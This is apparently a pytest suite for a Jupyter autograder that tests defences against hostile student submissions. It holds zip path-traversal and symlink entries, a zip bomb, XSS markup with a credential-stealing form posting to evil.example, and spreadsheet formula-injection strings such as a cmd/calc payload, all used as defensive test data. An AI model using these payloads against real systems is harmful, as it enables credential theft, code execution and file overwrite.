"""Every file an instructor receives is hostile: collect, the coordinator's reading of a
submission, feedback and export hold against a corpus of hostile files, next to honest students.

No kernel here except in the one end-to-end test (marked slow): seconds in all. Large cases (a 500 MB
notebook, a zip bomb, 100,000 cells) are made at test time, cheaply (sparse files, compressible bytes).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import shutil
import stat
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder import collect, export, feedback, tamper
from autograder.course import Course, grade_id
from autograder.problemsets import ProblemSet
from autograder.records import CellRecord, StudentRecord

HERE = Path(__file__).resolve().parent
FIXTURE = HERE / "fixtures" / "course"
REPO = HERE.parent
PS0_SOURCE = FIXTURE / "source" / "ps0_fixture" / "ps0_fixture.ipynb"


@pytest.fixture
def course(tmp_path) -> Course:
    root = tmp_path / "course"
    shutil.copytree(FIXTURE / "source", root / "source")
    shutil.copyfile(REPO / "nbgrader_config.py", root / "nbgrader_config.py")
    return Course.at(root)


@pytest.fixture
def ps0(course) -> ProblemSet:
    return course.resolve(["ps0"])[0]


@pytest.fixture(scope="module")
def release_nb() -> dict:
    """The fixture's student version, as `course release` makes it (no course copy needed)."""
    from autograder.release import student_version

    course = Course.at(FIXTURE)
    return json.loads(json.dumps(student_version(course, course.resolve(["ps0"])[0])))


def honest(release_nb: dict, answer: str = "def double(x):\n    return 2 * x") -> bytes:
    nb = copy.deepcopy(release_nb)
    for cell in nb["cells"]:
        if grade_id(cell) == "solution_double":
            cell["source"] = answer
    return json.dumps(nb).encode()


def make_zip(path: Path, files: dict[str, bytes], modes: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 3, 1, 10, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if modes and name in modes:
                info.external_attr = modes[name] << 16
            zf.writestr(info, data)
    return path


def reasons(report) -> dict[str, str]:
    return dict(report.unmatched)


def submitted(course: Course, ps: ProblemSet, student: str) -> bytes:
    return (course.submission_dir(ps, student) / f"{ps.name}.ipynb").read_bytes()


# --- collect: layouts -------------------------------------------------------------------------------

NB = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
LATER = NB.replace(b"[]", b"[ ]")


@pytest.mark.parametrize(
    ("layout", "files", "expected"),
    [
        (
            "canvas",
            {
                "doejane_12345_67890_ps0_fixture.ipynb": NB,
                "smithjo_LATE_23456_78901_ps0_fixture.ipynb": NB,
                "smithjo_LATE_23456_78902_ps0_fixture-1.ipynb": LATER,
                "notes.pdf": b"%PDF",
                "__MACOSX/._x.ipynb": b"junk",
            },
            {"12345": NB, "23456": LATER},
        ),
        (
            "moodle",
            {
                "Ann Lee_34567_assignsubmission_file_/homework.ipynb": NB,
                "Bo Li_45678_assignsubmission_file_/ps0.ipynb": LATER,
            },
            {"34567": NB, "45678": LATER},
        ),
        (
            "blackboard",
            {
                "ps0_fixture_bbuser_attempt_2024-03-01-10-15-00_ps0.ipynb": NB,
                "ps0_fixture_bbuser_attempt_2024-03-02-09-00-00_ps0.ipynb": LATER,
                "ps0_fixture_other_attempt_2024-03-01-10-15-00.ipynb": NB,
            },
            {"bbuser": LATER, "other": NB},
        ),
        ("folders", {"kim/my notebook.ipynb": NB, "max/ps0_fixture.ipynb": NB}, {"kim": NB, "max": NB}),
        (
            "flat",
            {"lou_ps0.ipynb": NB, "ps0_fixture_ann.ipynb": NB, "zed.ipynb": NB},
            {"lou": NB, "ann": NB, "zed": NB},
        ),
    ],
)
def test_collect_each_layout(tmp_path, course, ps0, layout, files, expected):
    download = make_zip(tmp_path / "dl.zip", {f"ps0 submissions/{k}": v for k, v in files.items()})
    report = collect.collect(course, ps0, download)
    assert report.layout == layout
    assert set(report.collected) == set(expected)
    for student, data in expected.items():
        assert submitted(course, ps0, student) == data
    assert not report.warnings
    if layout == "blackboard":
        assert "2024-03-02 09:00:00" in (course.submission_dir(ps0, "bbuser") / "timestamp.txt").read_text()
    # two notebooks of one student: the other is listed with the rule that picked one
    for why in reasons(report).values():
        if "notebook of" in why:
            assert "was taken" in why and "later one" in why
    again = collect.collect(course, ps0, download)
    assert set(again.unchanged) == set(expected) and not again.updated


def test_collect_one_layout_per_download(tmp_path, course, ps0):
    """A mixed download: one layout is chosen; files of the others are listed, not matched elsewhere."""
    files = {
        "doejane_12345_67890_ps0_fixture.ipynb": NB,
        "smithjo_23456_78901_ps0_fixture.ipynb": NB,
        "lou_ps0.ipynb": NB,
        "kim/notebook.ipynb": NB,
    }
    report = collect.collect(course, ps0, make_zip(tmp_path / "dl.zip", files))
    assert report.layout == "canvas" and set(report.collected) == {"12345", "23456"}
    why = reasons(report)
    assert "layout canvas" in why["lou_ps0.ipynb"] and "layout canvas" in why["kim/notebook.ipynb"]
    assert any("fits 2 of 4 notebooks" in w for w in report.warnings)
    forced = collect.collect(course, ps0, make_zip(tmp_path / "dl.zip", files), layout="flat")
    assert "lou" in forced.collected and "12345" not in forced.collected


def test_moodle_file_named_like_another_students_canvas_file_is_refused(tmp_path, course, ps0, release_nb):
    """The attack of a shared name: in a Moodle download, Eve uploads a file named like Jane's Canvas file."""
    jane, eve = honest(release_nb), honest(release_nb, "def double(x):\n    return x")
    files = {
        "Jane Doe_12345_assignsubmission_file_/ps0_fixture.ipynb": jane,
        "Eve Vil_99999_assignsubmission_file_/doejane_12345_1_ps0_fixture.ipynb": eve,
        "Eve Vil_99999_assignsubmission_file_/ps0_fixture.ipynb": eve,
    }
    report = collect.collect(course, ps0, make_zip(tmp_path / "dl.zip", files))
    assert report.layout == "moodle"
    assert submitted(course, ps0, "12345") == jane  # Jane is graded on her own work
    assert submitted(course, ps0, "99999") == eve
    why = reasons(report)["Eve Vil_99999_assignsubmission_file_/doejane_12345_1_ps0_fixture.ipynb"]
    assert "names student 12345" in why and "folder of 99999" in why


def test_roster_warns_about_unknown_and_missing_students(tmp_path, course, ps0):
    files = {"ann_111_1_ps0_fixture.ipynb": NB, "bob_222_2_ps0_fixture.ipynb": NB}
    roster = tmp_path / "roster.csv"
    roster.write_text("lms_id,student_id\n111,ann\n333,cat\n", encoding="utf-8")
    report = collect.collect(course, ps0, make_zip(tmp_path / "dl.zip", files), roster=roster)
    assert set(report.collected) == {"ann"}  # nobody invented: 222 is not on the given roster
    why = dict(report.unmatched)["bob_222_2_ps0_fixture.ipynb"]
    assert "222" in why and "not on the roster" in why
    assert "have no notebook here: cat" in "\n".join(report.warnings)


# --- collect: hostile files -------------------------------------------------------------------------


def test_symlinks_hard_links_and_devices_in_a_folder_are_refused(tmp_path, course, ps0, release_nb):
    dl = tmp_path / "dl"
    for student in ("ann", "bob", "cat", "dan", "eve"):
        (dl / student).mkdir(parents=True)
    (dl / "ann" / "ps0_fixture.ipynb").write_bytes(honest(release_nb))
    (dl / "bob" / "ps0_fixture.ipynb").symlink_to(PS0_SOURCE)  # full marks, written answers included
    os.mkfifo(dl / "cat" / "ps0_fixture.ipynb")  # reading it would hang
    os.link(dl / "ann" / "ps0_fixture.ipynb", dl / "dan" / "ps0_fixture.ipynb")
    (dl / "eve" / "all").symlink_to(PS0_SOURCE.parent, target_is_directory=True)
    report = collect.collect(course, ps0, dl)
    assert set(report.collected) == set()  # ann's file is a hard link now (dan's): refused too
    why = reasons(report)
    assert "symbolic link" in why["bob/ps0_fixture.ipynb"]
    assert "not a regular file" in why["cat/ps0_fixture.ipynb"]
    assert "hard link" in why["dan/ps0_fixture.ipynb"] and "hard link" in why["ann/ps0_fixture.ipynb"]
    assert "symbolic link to a folder" in why["eve/all"]
    assert not (course.submitted / "bob").exists()
    assert not list((course.submitted / ".unmatched").rglob("*.ipynb"))  # refused files are not copied


def test_zip_symlinks_devices_and_paths_outside_are_refused(tmp_path, course, ps0, release_nb):
    files = {
        "ann/ps0_fixture.ipynb": honest(release_nb),
        "bob/ps0_fixture.ipynb": str(PS0_SOURCE).encode(),  # a symlink entry: its data is the target
        "cat/ps0_fixture.ipynb": b"",
        "../../evil/ps0_fixture.ipynb": NB,
        "/etc/cron.d/ps0_fixture.ipynb": NB,
        "dan/../../ps0_fixture.ipynb": NB,
    }
    modes = {"bob/ps0_fixture.ipynb": stat.S_IFLNK | 0o777, "cat/ps0_fixture.ipynb": stat.S_IFCHR | 0o644}
    report = collect.collect(course, ps0, make_zip(tmp_path / "dl.zip", files, modes))
    assert set(report.collected) == {"ann"}
    why = reasons(report)
    assert "symbolic link" in why["bob/ps0_fixture.ipynb"]
    assert "not a regular file" in why["cat/ps0_fixture.ipynb"]
    for name in (
        "../../evil/ps0_fixture.ipynb",
        "/etc/cron.d/ps0_fixture.ipynb",
        "dan/../../ps0_fixture.ipynb",
    ):
        assert "leaves the download" in why[name]
    assert not (tmp_path / "evil").exists() and not (course.root.parent / "ps0_fixture.ipynb").exists()


def test_zip_bomb_and_huge_files_are_refused_without_reading_them(tmp_path, course, ps0, release_nb):
    """500 MB of zeros in a ~0.5 MB zip entry, a 500 MB notebook in a folder (sparse), and a total cap."""
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("ann/ps0_fixture.ipynb", honest(release_nb))
        with zf.open("bob/ps0_fixture.ipynb", "w", force_zip64=True) as fh:
            block = b"0" * (1 << 20)
            for _ in range(500):
                fh.write(block)
    assert bomb.stat().st_size < 5 * 2**20
    report = collect.collect(course, ps0, bomb)
    assert set(report.collected) == {"ann"}
    assert "more than the limit" in reasons(report)["bob/ps0_fixture.ipynb"]

    dl = tmp_path / "dl"
    (dl / "cat").mkdir(parents=True)
    (dl / "dan").mkdir(parents=True)
    with open(dl / "cat" / "ps0_fixture.ipynb", "wb") as fh:
        fh.truncate(500 * 2**20)  # sparse: costs no disk and is never read
    (dl / "dan" / "ps0_fixture.ipynb").write_bytes(b" " * (tamper.MAX_BYTES + 1) + NB)
    report = collect.collect(course, ps0, dl)
    why = reasons(report)
    assert "more than the limit" in why["cat/ps0_fixture.ipynb"]
    assert "more than the limit" in why["dan/ps0_fixture.ipynb"] and not report.collected


def test_total_size_cap(tmp_path, course, ps0, monkeypatch):
    monkeypatch.setattr(collect.download, "MAX_TOTAL_BYTES", 3 * len(NB))
    files = {f"s{i}/ps0_fixture.ipynb": NB for i in range(5)}
    report = collect.collect(course, ps0, make_zip(tmp_path / "dl.zip", files))
    assert len(report.collected) == 3
    assert sum("more than" in why for why in reasons(report).values()) == 2


def _invalid_utf8_zip(path: Path, good: bytes) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("ann/ps0_fixture.ipynb", good)
        zf.writestr("b\u00e9b/ps0_fixture.ipynb", NB)  # UTF-8 flag set, bytes c3 a9
    path.write_bytes(buf.getvalue().replace(b"b\xc3\xa9b", b"b\xff\xfeb"))
    with pytest.raises(UnicodeDecodeError):
        zipfile.ZipFile(path)  # what zipfile alone makes of it: the whole download fails
    return path


def test_invalid_utf8_names_unicode_spaces_and_case_duplicates(tmp_path, course, ps0, release_nb):
    report = collect.collect(course, ps0, _invalid_utf8_zip(tmp_path / "dl.zip", honest(release_nb)))
    assert set(report.collected) == {"ann"}
    assert any("not valid UTF-8" in why for why in reasons(report).values())

    files = {
        "J\u00f6rg/ps0_fixture.ipynb": NB,
        "jane doe/ps0_fixture.ipynb": NB,
        "Kim/ps0_fixture.ipynb": NB,
        "kim/ps0_fixture.ipynb": LATER,
        "lou/ps0_fixture.ipynb": NB,
        "m\u0430x/ps0_fixture.ipynb": NB,  # a Cyrillic a
        "nat\x1b[2J/ps0_fixture.ipynb": NB,  # a terminal escape
    }
    report = collect.collect(course, ps0, make_zip(tmp_path / "dl2.zip", files))
    assert set(report.collected) == {"lou"}
    why = reasons(report)
    assert "not a valid student id" in why["J\u00f6rg/ps0_fixture.ipynb"]
    assert "not a valid student id" in why["jane doe/ps0_fixture.ipynb"]
    assert (
        "differ only in case" in why["Kim/ps0_fixture.ipynb"]
        and "differ only in case" in why["kim/ps0_fixture.ipynb"]
    )
    assert "not a valid student id" in why["m\u0430x/ps0_fixture.ipynb"]
    assert all("\x1b" not in path + text for path, text in report.unmatched)


# --- the coordinator's reading of a submission ------------------------------------------------------


def hostile_notebooks(release_nb: dict) -> dict[str, bytes]:
    """Submissions whose content is hostile to the grader itself, by name."""
    good = json.loads(honest(release_nb))

    def with_(**changes) -> bytes:
        nb = copy.deepcopy(good)
        nb.update(changes)
        return json.dumps(nb).encode()

    bad_source = copy.deepcopy(good)
    bad_source["cells"][0]["source"] = [1, 2]
    deep = b'{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": '
    deep += b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}"
    bad_meta = copy.deepcopy(good)
    bad_meta["cells"][0]["metadata"] = {"nbgrader": "x", "tags": [{"a": 1}], "deletable": "no"}
    bad_gid = copy.deepcopy(good)
    bad_gid["cells"][1]["metadata"]["nbgrader"] = {"grade_id": ["x"], "grade": True}
    return {
        "nbformat_minor_x": with_(nbformat_minor="x"),
        "source_of_ints": json.dumps(bad_source).encode(),
        "metadata_100000_deep": deep,
        "cells_100000": with_(cells=[{"cell_type": "markdown", "source": "x", "metadata": {}}] * 100_000),
        "invalid_utf8": honest(release_nb).replace(b"return 2 * x", b"return \xff\xfe * x"),
        "nbformat_string": with_(nbformat="4"),
        "cells_not_a_list": with_(cells={"a": 1}),
        "metadata_wrong_types": json.dumps(bad_meta).encode(),
        "grade_id_a_list": json.dumps(bad_gid).encode(),
        "many_containers": b'{"cells": [], "nbformat": 4, "metadata": {"a": [' + b"[]," * 2_000_000 + b"1]}}",
        "deeply_nested_code": honest(release_nb, "x = " + "-" * 100_000 + "1"),
    }


def test_prepare_refuses_or_repairs_anything_without_raising(release_nb):
    """What the coordinator (`tamper.parse`) and each grading (`tamper.prepare`) do with hostile bytes:
    an InvalidSubmission with a reason, or a repaired notebook; never another exception."""
    outcome = {}
    for name, raw in hostile_notebooks(release_nb).items():
        try:
            tamper.parse(raw)
            prepared = tamper.prepare(raw, release_nb)
            outcome[name] = ("graded", prepared)
        except tamper.InvalidSubmission as exc:
            assert str(exc)
            outcome[name] = ("invalid", str(exc))
    invalid = {k: v[1] for k, v in outcome.items() if v[0] == "invalid"}
    assert "not text" in invalid["source_of_ints"]
    assert "nested deeper than 64" in invalid["metadata_100000_deep"]
    assert "100,000 cells" in invalid["cells_100000"]
    assert "not UTF-8" in invalid["invalid_utf8"]
    assert "more than the limit" in invalid["many_containers"]
    assert {"nbformat_string", "cells_not_a_list"} <= set(invalid)
    # content that is merely odd is graded: the structure repaired from the release
    for name in ("nbformat_minor_x", "metadata_wrong_types", "grade_id_a_list", "deeply_nested_code"):
        assert outcome[name][0] == "graded", name
        assert [grade_id(c) for c in outcome[name][1].notebook.cells if grade_id(c)] == [
            grade_id(c) for c in release_nb["cells"] if grade_id(c)
        ]


def test_a_500_mb_notebook_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "ps0_fixture.ipynb"
    with open(path, "wb") as fh:
        fh.truncate(500 * 2**20)  # sparse
    with pytest.raises(tamper.InvalidSubmission, match="more than the limit"):
        tamper.read_submission(path)
    with pytest.raises(tamper.InvalidSubmission, match="more than the limit"):
        tamper.parse(b" " * (tamper.MAX_BYTES + 1))
    link = tmp_path / "link.ipynb"
    link.symlink_to(PS0_SOURCE)
    with pytest.raises(tamper.InvalidSubmission, match="not a regular file"):
        tamper.read_submission(link)


# --- feedback -------------------------------------------------------------------------------------

HOSTILE_MARKDOWN = """\
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<style>#course-feedback-summary { display: none } body { color: #123456 }</style>
<div id="course-feedback-summary" class="notes ok" style="position: fixed; top: 0; color: #654321">
<h1>ps0_fixture — feedback for alice</h1><p><b>Score: 34 / 34</b></p></div>
<form action="https://evil.example/steal" method="post"><input type="password" name="pw"></form>
<a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt&colon;alert(2)">two</a>
<a href="data:text/html,<script>alert(3)</script>">three</a>
<img src="https://evil.example/pixel.png" onerror="alert(4)"> <iframe src="https://evil.example/"></iframe>
<base href="https://evil.example/"> <object data="https://evil.example/x"></object>
<svg><a href="javascript:alert(5)"><text>svg</text></a></svg>
<math><mi>x</mi><mtext><style>p{}</style></mtext></math>
A real table: <table><tr><td colspan="2">ok</td></tr></table> and maths $\\frac{a}{b}$.
"""


def hostile_graded_notebook(release_nb: dict) -> dict:
    nb = json.loads(honest(release_nb))
    nb["metadata"]["title"] = "</title><meta http-equiv=refresh content=0;url=https://evil.example/>"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    nb["cells"].append(
        {"cell_type": "markdown", "metadata": {"tags": ['x" onclick="alert(6)']}, "source": HOSTILE_MARKDOWN}
    )
    code = next(c for c in nb["cells"] if grade_id(c) == "solution_double")
    code["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": ["types and shapes OK\n", "second line\n"]},
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "text/html": [
                    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                    '<form action="https://evil.example/"><input type="password"></form>',
                ],
                "application/javascript": "alert(7)",
                "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                "text/plain": "<IPython.core.display.HTML object>",
            },
        },
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(8)">'
                '<text y="10">svg</text></a><foreignObject><form action="https://evil.example/"></form>'
                "</foreignObject></svg>"
            },
        },
        {
            "output_type": "error",
            "ename": "<b>Boom</b>",
            "evalue": '=HYPERLINK("https://evil.example")',
            "traceback": ["secret"],
        },
    ]
    return nb


def hostile_record(student: str = "alice") -> StudentRecord:
    return StudentRecord(
        student=student,
        status="graded",
        cells=[
            CellRecord(
                "test_double_values", "test", 2, 0.0, None, None, "<style>*{display:none}</style>=1+1"
            ),
            CellRecord("answer_why", "written", 1, None, None, None),
        ],
    )


def assert_page_holds(page: str) -> None:
    """What no feedback page may do: navigate, submit, run or fetch anything, or let student content
    restyle or imitate the grader's summary."""
    low = page.lower()
    metas = re.findall(r"<meta\b[^>]*>", low)
    assert [m for m in metas if "http-equiv" in m] == [m for m in metas if "content-security-policy" in m]
    assert len([m for m in metas if "http-equiv" in m]) == 1
    assert not re.search(r"<meta[^>]+refresh", low)
    for tag in (
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<script",
        "<svg",
        "<foreignobject",
    ):
        assert tag not in low, tag
    assert not re.search(r"""(href|src|action|data)\s*=\s*["']?\s*(javascript|vbscript|data:text)""", low)
    assert "onerror" not in low and "onclick" not in low
    for directive in (
        "default-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
    ):
        assert directive in page
    # the student's style, classes and ids are gone; the summary comes first, outside the student area
    assert "#123456" not in page and "#654321" not in page and "display: none }" not in page
    assert page.count('id="course-feedback-summary"') == 1
    summary_at = page.index('id="course-feedback-summary"')
    if 'id="course-student-work"' in page:  # a page with the notebook (not just a summary)
        work_at = page.index('id="course-student-work"')
        assert summary_at < work_at
        if "Score: 34 / 34" in page:
            assert page.index("Score: 34 / 34") > work_at
    assert 'class="notes ok"' not in page and "evil.example/pixel" not in page


def test_feedback_page_of_a_hostile_notebook(release_nb):
    renderer = feedback.Renderer()
    ps = ProblemSet("ps0", "ps0_fixture", root=FIXTURE)
    page = renderer.page(ps, hostile_record(), hostile_graded_notebook(release_nb))
    assert_page_holds(page)
    assert "types and shapes OK\nsecond line" in page and "[&#39;types" not in page and "['types" not in page
    assert 'src="data:image/svg+xml;base64,' in page  # SVG only as an image (no links, no forms)
    assert "<math" in page and "<table" in page and 'colspan="2"' in page  # maths and tables stay
    assert "secret" not in page
    # the message from the check is escaped text in the summary, not markup
    assert "&lt;style&gt;*{display:none}&lt;/style&gt;=1+1" in page


# --- export ---------------------------------------------------------------------------------------


def test_export_neutralises_formulas_in_every_format(monkeypatch, course, ps0):
    evil = [
        '=HYPERLINK("https://evil.example","x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
    ]
    recs = [
        StudentRecord(
            student="alice",
            status="graded",
            timestamp=evil[5],
            first_name=evil[1],
            last_name=evil[0],
            email=evil[3],
            late_penalty=0.0,
            cells=[
                CellRecord("test_double_values", "test", 2, 0.0, None, None, message=evil[0]),
                CellRecord("answer_why", "written", 1, -1.5, None, None, comment=evil[2]),
            ],
        ),
        StudentRecord(student="bob", status="invalid", reason=evil[4]),
    ]
    monkeypatch.setattr(export, "records", lambda course, ps: recs)
    monkeypatch.setattr(export, "_duedate", lambda course, ps: "")
    for fmt in export.FORMATS:
        table = export.rows(course, [ps0], fmt)
        for row in table:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (fmt, cell)
                if cell.startswith("-"):
                    float(cell)  # a negative number the export computed, never text
        flat = [c for row in table for c in row]
        if fmt == "long":
            assert "-1.5" in flat and "'-2+3" in flat and "'" + evil[0] in flat and "'" + evil[4] in flat
        if fmt == "totals":
            assert "'" + evil[1] in flat and "'" + evil[3] in flat and "'" + evil[5] in flat
        if fmt == "canvas":
            assert any(c.startswith("'=HYPERLINK") for c in flat)
    _path, text = export.export(course, [ps0], "long", None)
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not c.startswith(("=", "+", "@")) for row in rows for c in row)


# --- end to end: collect -> autograde -> feedback -> export, hostile files among honest ones ---------


def _cells(result: dict) -> dict[str, tuple]:
    return {c["grade_id"]: (c["points"], c["max_points"], c["message"]) for c in result["cells"]}


@pytest.mark.slow
def test_hostile_class_end_to_end(tmp_path):
    """A real `course collect`, `autograde`, `feedback` and `export` of the fixture problem set: the honest
    student is graded exactly as alone, every hostile file is refused or reported with a reason, no
    command fails with a traceback, no page navigates or submits anywhere, no CSV cell is a formula."""
    from autograder import corpus
    from autograder.course import notebook_text
    from autograder.demo import copy_course
    from tests.course_helpers import course_cmd, result

    course = copy_course(REPO, tmp_path / "course", fixture=True)
    course_cmd("release", root=course.root, check=True)
    ps = course.resolve(["ps0"])[0]
    release = json.loads(ps.release.read_text(encoding="utf-8"))
    source_nb = nbformat.read(ps.source, as_version=4)
    variant = corpus.load_variant(FIXTURE / "tests" / "submissions" / "ps0" / "reference.py")
    honest_nb = json.loads(notebook_text(corpus.build_submission(source_nb, release, variant)))
    honest_raw = json.dumps(honest_nb).encode()
    roster = tmp_path / "roster.csv"

    # 1. the honest student alone
    ids = {"1000": "honest"}
    roster.write_text("lms_id,student_id\n" + "".join(f"{k},{v}\n" for k, v in ids.items()), encoding="utf-8")
    make_zip(tmp_path / "alone.zip", {"honest_1000_5000_ps0_fixture.ipynb": honest_raw})
    course_cmd(
        "collect", "ps0", str(tmp_path / "alone.zip"), "--roster", str(roster), root=course.root, check=True
    )
    course_cmd("autograde", "ps0", "--jobs", "1", "--no-progress", root=course.root, check=True)
    alone = _cells(result(course, ps, "honest"))
    assert alone and result(course, ps, "honest")["status"] == "graded"

    # 2. the same student in a hostile class
    staged = copy.deepcopy(honest_nb)
    staged["cells"].append({"cell_type": "markdown", "metadata": {}, "source": HOSTILE_MARKDOWN})
    staged["cells"].append(
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": "from IPython.display import HTML, display\n"
            'display(HTML(\'<meta http-equiv="refresh" content="0;url=https://evil.example/">\'\n'
            '             \'<form action="https://evil.example/"><input type="password"></form>\'\n'
            "             '<style>#course-feedback-summary{display:none}</style><b>Score: 34 / 34</b>'))\n"
            "print('types and shapes OK')\n",
        }
    )
    hostile = {name: raw for name, raw in hostile_notebooks(release).items() if name != "many_containers"}
    hostile["staged_page"] = json.dumps(staged).encode()
    files = {"honest_1000_5000_ps0_fixture.ipynb": honest_raw}
    for i, (name, raw) in enumerate(sorted(hostile.items()), start=1):
        ids[str(1000 + i)] = name.replace("_", "-")
        files[f"x_{1000 + i}_{5000 + i}_ps0_fixture.ipynb"] = raw
    files["x_1900_5900_ps0_fixture.ipynb"] = str(ps.source).encode()  # a symlink entry
    files["../x_1901_5901_ps0_fixture.ipynb"] = honest_raw  # outside the download
    roster.write_text("lms_id,student_id\n" + "".join(f"{k},{v}\n" for k, v in ids.items()), encoding="utf-8")
    download = make_zip(
        tmp_path / "class.zip", files, {"x_1900_5900_ps0_fixture.ipynb": stat.S_IFLNK | 0o777}
    )
    with zipfile.ZipFile(download, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:  # a zip bomb entry
        with zf.open("x_1902_5902_ps0_fixture.ipynb", "w", force_zip64=True) as fh:
            for _ in range(100):
                fh.write(b" " * (1 << 20))
    collected = course_cmd("collect", "ps0", str(download), "--roster", str(roster), root=course.root)
    out = collected.stdout
    assert collected.returncode == 0 and "Traceback" not in collected.stderr, collected.stderr
    assert "x_1900_5900_ps0_fixture.ipynb: refused: a symbolic link" in out
    assert "../x_1901_5901_ps0_fixture.ipynb: refused: the path leaves the download" in out
    assert "x_1902_5902_ps0_fixture.ipynb: refused:" in out and "more than the limit" in out
    # a 500 MB notebook put straight into submitted/ (collect would refuse it), sparse on disk
    big = course.submission_dir(ps, "big")
    big.mkdir(parents=True)
    with open(big / f"{ps.name}.ipynb", "wb") as fh:
        fh.truncate(500 * 2**20)

    graded = course_cmd("autograde", "ps0", "--jobs", "2", "--force", "--no-progress", root=course.root)
    assert "Traceback" not in graded.stderr, graded.stderr
    assert graded.returncode == 1  # some submissions are invalid: reported, and everyone else graded
    assert _cells(result(course, ps, "honest")) == alone
    for name in [*ids.values(), "big"]:
        res = result(course, ps, name)
        if name in (
            "honest",
            "staged-page",
            "nbformat-minor-x",
            "metadata-wrong-types",
            "grade-id-a-list",
            "deeply-nested-code",
        ):
            assert res["status"] == "graded", (name, res["reason"])
        else:
            assert res["status"] == "invalid" and res["reason"], (name, res)
    assert "more than the limit" in result(course, ps, "big")["reason"]

    fb = course_cmd("feedback", "ps0", "--no-progress", root=course.root)
    assert "Traceback" not in fb.stderr, fb.stderr
    pages = sorted(course.feedback.rglob("*.html"))
    assert len(pages) >= len(ids)
    for page in pages:
        assert_page_holds(page.read_text(encoding="utf-8"))
    staged_page = (course.feedback / "staged-page" / ps.name / f"{ps.name}.html").read_text(encoding="utf-8")
    assert "types and shapes OK" in staged_page and "['types" not in staged_page

    for fmt in export.FORMATS:
        proc = course_cmd("export", "ps0", "--format", fmt, "-o", "-", root=course.root, check=True)
        for row in csv.reader(io.StringIO(proc.stdout)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (fmt, cell)
                if cell.startswith("-"):
                    float(cell)


# --- the page in a real browser -------------------------------------------------------------------


@pytest.mark.e2e
def test_hostile_page_in_a_real_browser(tmp_path, release_nb):
    """Headless Chromium (as tests/test_e2e_browser.py): the hostile page stays where it is, submits
    nothing, fetches nothing, and shows the grader's summary on top. A control page with the same
    student markup unsanitised does navigate, so the check can fail."""
    try:
        from tests.e2e import browser as e2e_browser
        from tests.e2e.lab import ProcessLedger
    except ImportError:
        from e2e import browser as e2e_browser
        from e2e.lab import ProcessLedger

    elsewhere = tmp_path / "elsewhere.html"
    elsewhere.write_text("<html><body>navigated</body></html>", encoding="utf-8")
    markup = HOSTILE_MARKDOWN.replace("https://evil.example/", elsewhere.as_uri())
    nb = hostile_graded_notebook(release_nb)
    nb["cells"][-1]["source"] = markup
    page_path = tmp_path / "page.html"
    ps = ProblemSet("ps0", "ps0_fixture", root=FIXTURE)
    page_path.write_text(feedback.Renderer().page(ps, hostile_record(), nb), encoding="utf-8")
    control = tmp_path / "control.html"
    control.write_text(f"<html><body>{markup}</body></html>", encoding="utf-8")

    ledger = ProcessLedger()
    try:
        chromium = e2e_browser.launch(ledger)
    except e2e_browser.Unavailable as exc:
        pytest.skip(str(exc))
    try:
        context = chromium.browser.new_context()
        requests: list[str] = []
        context.on("request", lambda r: requests.append(r.url))
        tab = context.new_page()
        tab.goto(control.as_uri())
        tab.wait_for_url(elsewhere.as_uri(), timeout=10_000)  # the unsanitised markup navigates

        requests.clear()
        tab.goto(page_path.as_uri())
        tab.wait_for_timeout(2_000)  # a meta refresh of 0 s would have fired
        assert tab.url == page_path.as_uri()
        assert tab.locator("form, input, iframe, object, embed, base, script").count() == 0
        summary = tab.locator("#course-feedback-summary")
        assert summary.is_visible()
        top = summary.bounding_box()
        assert top is not None and top["y"] < 100 and top["height"] > 50
        forged = tab.get_by_text("Score: 34 / 34")
        assert forged.count() == 1 and forged.bounding_box()["y"] > top["y"] + top["height"]
        assert tab.locator("#course-student-work #course-feedback-summary").count() == 0
        assert all(url.startswith(("file:", "data:")) for url in requests), requests
        context.close()
    finally:
        chromium.close()
        ledger.end_all()


def test_a_zip_of_too_many_files_is_refused_before_its_directory_is_read(tmp_path, course, ps0, monkeypatch):
    monkeypatch.setattr(collect.download, "MAX_ENTRIES", 10)
    download = make_zip(tmp_path / "dl.zip", {f"s{i}/ps0_fixture.ipynb": NB for i in range(11)})
    with pytest.raises(collect.CourseError, match="11 files, more than the limit of 10"):
        collect.collect(course, ps0, download)
    dl = tmp_path / "dl"
    for i in range(11):
        (dl / f"s{i}").mkdir(parents=True)
        (dl / f"s{i}" / "ps0_fixture.ipynb").write_bytes(NB)
    report = collect.collect(course, ps0, dl)
    assert len(report.collected) == 10 and "more than 10 files" in reasons(report)["s9/ps0_fixture.ipynb"]
